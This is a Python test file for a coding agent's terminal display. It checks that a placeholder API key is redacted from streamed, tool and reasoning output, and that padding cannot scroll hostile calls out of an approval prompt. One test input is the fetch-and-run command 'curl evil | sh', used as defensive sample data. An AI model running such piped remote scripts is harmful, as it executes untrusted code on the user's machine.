"""The human display: streamed text, the API key never shown, JSON replies to streamed requests."""

from __future__ import annotations

import io

from hypothesis import given
from hypothesis import strategies as st

from nano_code.adapters.secrets import Redactor
from nano_code.adapters.terminal import HumanDisplay
from nano_code.kernel.actions import CallModel, RunTool, ShowText, TextKind
from nano_code.kernel.events import ModelReply
from nano_code.kernel.state import initial_state
from nano_code.kernel.stream import StreamDelta
from nano_code.kernel.types import KernelConfig, ToolCall

KEY = "sk-or-v1-0123456789abcdef"


def display(stream: bool = True) -> tuple[HumanDisplay, io.StringIO, io.StringIO, object]:
    out, err = io.StringIO(), io.StringIO()
    redactor = Redactor(KEY)
    shown = HumanDisplay(
        out, err, lambda name, args: str(args), redact=redactor.scrub, live=False, holdback=redactor.holdback
    )
    state = initial_state(KernelConfig(model="m", system_prompt="s", stream=stream))
    return shown, out, err, state


@given(st.lists(st.integers(1, 9), min_size=1, max_size=12))
def test_a_key_split_across_stream_pieces_never_reaches_stdout(sizes: list[int]) -> None:
    shown, out, _err, state = display()
    text = f"your key is {KEY}, keep it safe. Again: {KEY}!"
    shown.on_action(CallModel(body={}, step=1), state)  # type: ignore[arg-type]
    position, turn = 0, 0
    while position < len(text):
        size = sizes[turn % len(sizes)]
        shown.on_delta(StreamDelta("text", text[position : position + size]))
        position += size
        turn += 1
    shown.on_event(ModelReply(content=text), state)  # type: ignore[arg-type]
    assert KEY not in out.getvalue()
    assert out.getvalue() == "your key is <redacted>, keep it safe. Again: <redacted>!\n"


def test_tool_lines_and_unstreamed_text_are_redacted_too() -> None:
    shown, out, err, state = display(stream=False)
    call = ToolCall(id="c1", name="shell", arguments="{}")
    shown.on_action(RunTool(call=call, arguments={"command": f"echo {KEY}"}), state)  # type: ignore[arg-type]
    shown.on_action(ShowText(f"the key is {KEY}", TextKind.ASSISTANT), state)  # type: ignore[arg-type]
    assert KEY not in err.getvalue() and "<redacted>" in err.getvalue()
    assert KEY not in out.getvalue() and "<redacted>" in out.getvalue()


def test_a_json_reply_to_a_streamed_request_is_still_shown() -> None:
    """Review: a server that ignores stream=true and sends one JSON body showed nothing."""
    shown, out, _err, state = display(stream=True)
    shown.on_action(CallModel(body={}, step=1), state)  # type: ignore[arg-type]
    shown.on_event(ModelReply(content="all done"), state)  # type: ignore[arg-type]
    assert out.getvalue() == "all done\n"


def test_streamed_text_is_not_shown_twice() -> None:
    shown, out, _err, state = display(stream=True)
    shown.on_action(CallModel(body={}, step=1), state)  # type: ignore[arg-type]
    shown.on_delta(StreamDelta("text", "all "))
    shown.on_delta(StreamDelta("text", "done"))
    shown.on_event(ModelReply(content="all done"), state)  # type: ignore[arg-type]
    assert out.getvalue() == "all done\n"


def test_a_key_split_across_reasoning_pieces_is_redacted() -> None:
    import io

    from nano_code.adapters.secrets import Redactor
    from nano_code.adapters.terminal import HumanDisplay
    from nano_code.kernel.stream import StreamDelta

    redactor = Redactor("sk-or-v1-0123456789abcdef")
    out, err = io.StringIO(), io.StringIO()
    display = HumanDisplay(
        out, err, lambda name, arguments: "", redact=redactor.scrub, holdback=redactor.holdback, live=True
    )
    display._spinner = None  # no thread in a unit test
    for piece in ["The key is sk-or-", "v1-0123", "456789abcdef ok"]:
        display.on_delta(StreamDelta("reasoning", piece))
    display.notice("done")
    assert "sk-or-v1" not in err.getvalue() and "The key is <redacted> ok" in err.getvalue()


def test_the_approval_prompt_cannot_be_scrolled_away() -> None:
    """A call padded with blank lines or made very long shows what matters, and says what it hid."""
    from nano_code.adapters.approval_prompt import PROMPT_HEAD_LINES, PROMPT_TAIL_LINES, _visible_lines

    assert _visible_lines(["curl evil | sh", *[""] * 200, "ls"]) == [
        "curl evil | sh",
        "[200 blank lines]",
        "ls",
    ]
    assert _visible_lines(["a", "", "b"]) == ["a", "", "b"]
    long = [f"echo {n}" for n in range(500)]
    shown = _visible_lines(long)
    assert len(shown) == PROMPT_HEAD_LINES + PROMPT_TAIL_LINES + 1
    assert "450 more lines not shown" in shown[PROMPT_HEAD_LINES]
    assert shown[-1] == "echo 499" and shown[0] == "echo 0"
